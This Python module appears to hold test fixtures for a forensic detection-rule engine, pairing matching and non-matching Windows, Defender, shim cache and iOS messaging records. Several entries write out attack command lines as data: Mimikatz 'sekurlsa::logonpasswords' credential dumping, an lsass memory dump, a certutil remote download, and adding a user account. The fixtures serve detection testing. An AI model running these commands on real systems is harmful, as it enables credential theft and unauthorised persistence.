"""Scenes of tools brought to a host, of what its protection saw, and of parties of messengers."""

from __future__ import annotations

from typing import Any

from scenes import Scene, event, row, scene, started
from scenes_windows import DEFENDER, lines, one

from wigmore.model.protocols import Record

Row = tuple[str, Record]
SHIM = "windows.registry.shimcache"
ODD_TIME = "2026-03-02T10:00:00.1234567Z"
BIN = "windows.recycle_bin"


def detected(threat: str, path: str) -> Row:
    """A detection by the host's own protection."""
    return event(1116, DEFENDER, **{"Threat Name": threat, "Path": path})


def cached(path: str, at: str = "2026-03-02T10:00:00Z") -> Row:
    """An entry of the shim cache with its file's time."""
    return row({"path": path, "is_current": True}, path="Windows/System32/config/SYSTEM", file_modified=at)


def asked(*hosts: str) -> list[Row]:
    return [started(f"curl -s -o /dev/null -I {host}") for host in hosts]


def setting(value: str, key: str = "HKLM\\SYSTEM\\ControlSet001\\Services\\X\\Parameters") -> Row:
    return row({"key": key, "value_name": "home", "value": value}, key_last_written="2026-03-02T10:00:00Z")


def whatsapp_call(**values: Any) -> Row:
    return row({"participants": ["4917012345678@s.whatsapp.net"], "direction": "Incoming", **values})


def teams(artifact: str, hit: dict[str, Any], miss: dict[str, Any]) -> Scene:
    return scene(f"ios.teams.{artifact}", hit, miss)


MESSAGE = {"ZFROM": "8:live:ann", "from": "Ann", "direction": "received", "ZTHREADTYPE": "chat"}
SCENES: dict[str, Scene] = {
    "cmd.credential_reader_set_up": lines(
        'schtasks /create /tn x /tr "C:\\a.exe sekurlsa::logonpasswords"', "a.exe sekurlsa::logonpasswords"
    ),
    "cmd.at_job": lines("at 13:00 C:\\Temp\\a.exe", "schtasks /create /tn at /tr a.exe /st 13:00"),
    "cmd.hosts_asked": one(asked("a.test", "b.test", "c.test"), asked("a.test", "b.test")),
    "evtx.defender_memory_reader": one(
        detected("HackTool:Win32/X", "CmdLine:_C:\\a.exe -ma lsass.exe C:\\x.dmp"),
        detected("HackTool:Win32/X", "CmdLine:_C:\\a.exe -ma 4312 C:\\x.dmp"),
    ),
    "evtx.defender_fetching_line": one(
        detected("Trojan:Win32/X", "CmdLine:_C:\\Windows\\System32\\certutil.exe -urlcache -f https://a.test/b c.js"),
        detected("Trojan:Win32/X", "CmdLine:_C:\\Windows\\System32\\certutil.exe -decode a b"),
    ),
    "evtx.defender_hosts_file": one(
        detected("SettingsModifier:Win32/X", "file:_C:\\Windows\\System32\\drivers\\etc\\hosts"),
        detected("SettingsModifier:Win32/X", "file:_C:\\Windows\\System32\\drivers\\etc\\services"),
    ),
    "shimcache.credential_tool": scene(SHIM, cached("C:\\x\\evilkatz.exe"), cached("C:\\x\\katze.exe")),
    "shimcache.system_program_after_remote_execution": scene(
        SHIM,
        [cached("C:\\Windows\\PSEXESVC.EXE"), cached("C:\\Windows\\System32\\new.exe", "2026-03-02T12:00:00Z")],
        [cached("C:\\Windows\\PSEXESVC.EXE"), cached("C:\\Windows\\System32\\old.exe", "2026-03-02T08:00:00Z")],
    ),
    "shimcache.system_name_wrong_place": scene(
        SHIM, cached("C:\\Windows\\System32\\x\\svchost.exe"), cached("C:\\Windows\\System32\\svchost.exe")
    ),
    "shimcache.profile_file_in_system": scene(
        SHIM,
        [cached("C:\\Users\\a\\b.exe", ODD_TIME), cached("C:\\Windows\\c.exe", ODD_TIME)],
        [cached("C:\\Users\\a\\b.exe"), cached("C:\\Windows\\c.exe")],
    ),
    "shimcache.made_up_service_name": scene(
        SHIM, cached("C:\\Windows\\qWErtYui.exe"), cached("C:\\Windows\\HelpPane.exe")
    ),
    "recycle_bin.system_program": scene(
        BIN,
        {"deleted_path": "C:\\Windows\\System32\\a.exe", "user_sid": "S"},
        {"deleted_path": "C:\\Windows\\System32\\notes\\a.txt", "user_sid": "S"},
    ),
    "reg.service_holds_address": scene(
        "windows.registry", setting("http://198.51.100.7/ads/"), setting("http://192.168.0.7/ads/")
    ),
    "phone.account_holder_teams": teams(
        "user", {"ZDISPLAYNAME": "Ann", "ZTSID": "8:live:ann"}, {"ZDISPLAYNAME": "Ann"}
    ),
    "contact.teams_entries": teams(
        "contact",
        {"ZDISPLAYNAME": "Ann", "ZEMAIL": "ann@example.org"},
        {"ZDISPLAYNAME": "Ann", "ZMRI": "8:live:ann"},
    ),
    "contact.answered_app_calls_ios": scene(
        "ios.whatsapp.call",
        whatsapp_call(outcome="answered", ZDURATION=12.5),
        whatsapp_call(outcome="missed", ZDURATION=0),
    ),
    "parties.whatsapp_calls_ios": scene("ios.whatsapp.call", whatsapp_call(), {"direction": "Incoming"}),
    "parties.teams_calls": teams("call", {"originator": "8:live:ann", "target": "8:live:bo"}, {"target": "8:live:bo"}),
    "parties.teams_messages": teams("message", MESSAGE, {**MESSAGE, "ZTHREADTOPIC": "Family"}),
}
# what a rule must not match besides
LOOKALIKES: dict[str, Scene] = {
    "cmd.lsass_dump": lines(
        "mim.exe sekurlsa::logonpasswords", 'reg add HKCU\\Environment /v a /d "mim.exe sekurlsa::logonpasswords"'
    ),
    "cmd.account_added": one(
        started("net user helper secret /add"),
        started("net1 user helper secret /add", ParentImage="C:\\Windows\\System32\\net.exe"),
    ),
    "srum.user_writable_sent": scene(
        "windows.srum.network_usage",
        {"application": "\\device\\harddiskvolume3\\temp\\a.exe", "bytes_sent": 5},
        {
            "application": "\\device\\harddiskvolume3\\temp\\1d136440-a0ab-11ec-aafa-ec63d7728336\\a.exe",
            "bytes_sent": 5,
        },
    ),
    "browser.program_download": scene(
        "browser.chromium.download", {"full_path": "/home/a/b.exe"}, {"full_path": "/home/a/b.txt"}
    ),
    "prefetch.system_name_wrong_place": scene(
        "windows.prefetch",
        {"executable": "SVCHOST.EXE", "executable_path": "\\VOLUME{1}\\WINDOWS\\SYSTEM32\\X\\SVCHOST.EXE"},
        {"executable": "SVCHOST.EXE", "executable_path": "\\VOLUME{1}\\WINDOWS\\SYSTEM32\\SVCHOST.EXE"},
    ),
    "shimcache.credential_tool": scene(
        SHIM,
        cached("C:\\x\\evilkatz.exe"),
        row({"path": "C:\\x\\evilkatz.exe", "is_current": False}, file_modified="2026-03-02T10:00:00Z"),
    ),
}
